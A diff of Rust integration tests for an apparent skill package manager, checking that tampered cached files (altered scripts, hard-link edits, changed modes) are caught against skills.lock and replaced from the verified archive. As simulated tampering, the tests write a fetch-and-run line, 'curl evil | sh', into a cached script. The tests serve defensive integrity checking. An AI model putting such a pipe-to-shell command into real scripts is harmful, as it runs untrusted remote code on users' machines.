@@ -309,12 +309,12 @@ fn set_mode(path: &Path, mode: u32) {
     std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
 }
 
-#[test]
+/// A published `acme/tool` with a script, added to a project: the
+/// project, its pinned tree and the tree kept in the cache.
 #[cfg(unix)]
-fn a_tampered_tree_in_the_cache_is_never_installed() {
-    let ctx = TestContext::new();
-    let acme = Publisher::new(&ctx);
-    let index = acme.index(&ctx, "index");
+fn added_tool_with_cached_tree(ctx: &TestContext) -> (PathBuf, Vec<(String, Vec<u8>)>, PathBuf) {
+    let acme = Publisher::new(ctx);
+    let index = acme.index(ctx, "index");
     let dir = write_skill(
         &ctx.root().join("sources"),
         "tool",
@@ -324,49 +324,120 @@ fn a_tampered_tree_in_the_cache_is_never_installed() {
     std::fs::write(dir.join("scripts/run.sh"), "#!/bin/sh\necho honest\n").unwrap();
     set_mode(&dir.join("scripts/run.sh"), 0o755);
     std::fs::write(dir.join("scripts/notes.txt"), "Read me.\n").unwrap();
-    acme.publish_dir(&ctx, &index, &dir);
-    let app = new_project(&ctx, Some(index.to_str().unwrap()));
+    acme.publish_dir(ctx, &index, &dir);
+    let app = new_project(ctx, Some(index.to_str().unwrap()));
     ctx.ok_in(&app, &["add", "acme/tool"]);
     let pinned = tree(&app.join(".agents/skills/tool"));
     // The install kept an unpacked copy of the tree in the cache.
-    let cached = the_cached_tree(&ctx);
+    let cached = the_cached_tree(ctx);
     assert_eq!(tree(&cached), pinned);
+    (app, pinned, cached)
+}
 
-    // Someone with write access to the cache changes the script there.
-    std::fs::write(cached.join("scripts/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
-    let clone = clone_of(&ctx, &app, "clone");
-    let out = ctx.ok_in(&clone, &["install", "--locked"]);
-    let installed = clone.join(".agents/skills/tool");
-    assert_eq!(
-        tree(&installed),
-        pinned,
-        "the pinned files, not the cache's"
-    );
+/// Says that `out` replaced the cached tree of acme/tool.
+fn assert_cache_replaced(out: &Output) {
     assert!(
         out.stderr
-            .contains("acme/tool: the cached copy of its files ("),
+            .contains("acme/tool: the cached copy of its files (")
+            && out
+                .stderr
+                .contains("did not match skills.lock and was replaced from the verified archive"),
         "{}",
         out.stderr
     );
-    assert!(
-        out.stderr
-            .contains("did not match skills.lock and was replaced from the verified archive")
-    );
-    assert_eq!(mode(&installed.join("scripts/run.sh")), 0o755);
-    // The cache holds the pinned tree again, and a later install uses it quietly.
-    assert_eq!(tree(&the_cached_tree(&ctx)), pinned);
+}
 
-    // Permissions are not the tree hash's to check: they come from the
-    // verified archive, whatever the cached copy says.
-    set_mode(&cached.join("scripts/notes.txt"), 0o755);
-    set_mode(&cached.join("scripts/run.sh"), 0o644);
-    let again = clone_of(&ctx, &app, "again");
-    let out = ctx.ok_in(&again, &["install", "--locked"]);
+#[test]
+#[cfg(unix)]
+fn a_tampered_tree_in_the_cache_is_never_installed() {
+    let ctx = TestContext::new();
+    let (app, pinned, cached) = added_tool_with_cached_tree(&ctx);
+    // Cached files are read-only: whoever else can write the cache's
+    // folders can replace a file there, not write into the one a project
+    // links to.
+    assert_eq!(mode(&cached.join("scripts/run.sh")) & 0o222, 0);
+    assert_eq!(mode(&cached.join("SKILL.md")) & 0o222, 0);
+    std::fs::remove_file(cached.join("scripts/run.sh")).unwrap();
+    std::fs::write(cached.join("scripts/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    set_mode(&cached.join("scripts/run.sh"), 0o555);
+    assert_eq!(
+        tree(&app.join(".agents/skills/tool")),
+        pinned,
+        "the project is untouched"
+    );
+    for mode_flag in ["hardlink", "copy"] {
+        let clone = clone_of(&ctx, &app, &format!("clone-{mode_flag}"));
+        let out = ctx.ok_in(&clone, &["install", "--locked", "--link-mode", mode_flag]);
+        let installed = clone.join(".agents/skills/tool");
+        assert_eq!(
+            tree(&installed),
+            pinned,
+            "the pinned files, not the cache's"
+        );
+        assert_cache_replaced(&out);
+        assert_ne!(mode(&installed.join("scripts/run.sh")) & 0o111, 0);
+        assert_eq!(mode(&installed.join("scripts/notes.txt")) & 0o111, 0);
+        // The cache holds the pinned tree again.
+        assert_eq!(tree(&the_cached_tree(&ctx)), pinned);
+        std::fs::remove_file(the_cached_tree(&ctx).join("scripts/run.sh")).unwrap();
+        std::fs::write(
+            the_cached_tree(&ctx).join("scripts/run.sh"),
+            "#!/bin/sh\nevil\n",
+        )
+        .unwrap();
+    }
+}
+
+#[test]
+#[cfg(unix)]
+fn an_edit_through_a_hard_link_is_caught_by_the_tree_hash() {
+    let ctx = TestContext::new();
+    let (app, pinned, cached) = added_tool_with_cached_tree(&ctx);
+    let clone = clone_of(&ctx, &app, "clone");
+    let out = ctx.ok_in(&clone, &["install", "--locked"]);
     assert!(!out.stderr.contains("cached copy"), "{}", out.stderr);
-    let installed = again.join(".agents/skills/tool");
-    assert_eq!(tree(&installed), pinned);
-    assert_eq!(mode(&installed.join("scripts/run.sh")), 0o755);
-    assert_eq!(mode(&installed.join("scripts/notes.txt")), 0o644);
+    // The warm install linked the cache's files: nothing was copied.
+    let installed = clone.join(".agents/skills/tool");
+    let inode =
+        |path: &Path| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(path).unwrap());
+    assert_eq!(
+        inode(&installed.join("SKILL.md")),
+        inode(&cached.join("SKILL.md"))
+    );
+    // An editor told to overwrite the read-only file writes into the
+    // inode the cache shares.
+    set_mode(&installed.join("SKILL.md"), 0o644);
+    std::fs::write(
+        installed.join("SKILL.md"),
+        "---\nname: tool\ndescription: Edited.\n---\n",
+    )
+    .unwrap();
+    // `verify` names the edited skill in that project...
+    let out = ctx.run_in(&clone, &["verify"]);
+    assert_eq!(out.status, 1, "{}", out.stdout);
+    assert!(out.stdout.contains("acme/tool"), "{}", out.stdout);
+    // ...and the next install from the cache replaces the cached tree
+    // from the verified archive instead of spreading the edit.
+    let other = clone_of(&ctx, &app, "other");
+    let out = ctx.ok_in(&other, &["install", "--locked"]);
+    assert_cache_replaced(&out);
+    assert_eq!(tree(&other.join(".agents/skills/tool")), pinned);
+    // A changed mode is a changed tree, as the archive's listing sets them.
+    set_mode(&the_cached_tree(&ctx).join("scripts/notes.txt"), 0o555);
+    let third = clone_of(&ctx, &app, "third");
+    let out = ctx.ok_in(&third, &["install", "--locked"]);
+    assert_cache_replaced(&out);
+    assert_eq!(
+        mode(&third.join(".agents/skills/tool/scripts/notes.txt")) & 0o111,
+        0
+    );
+    // With --link-mode copy, nothing in the project is the cache's.
+    let copied = clone_of(&ctx, &app, "copied");
+    ctx.ok_in(&copied, &["install", "--locked", "--link-mode", "copy"]);
+    let file = copied.join(".agents/skills/tool/SKILL.md");
+    assert_ne!(inode(&file), inode(&the_cached_tree(&ctx).join("SKILL.md")));
+    assert_eq!(mode(&file), 0o644);
+    assert_eq!(tree(&copied.join(".agents/skills/tool")), pinned);
 }
 
 #[test]
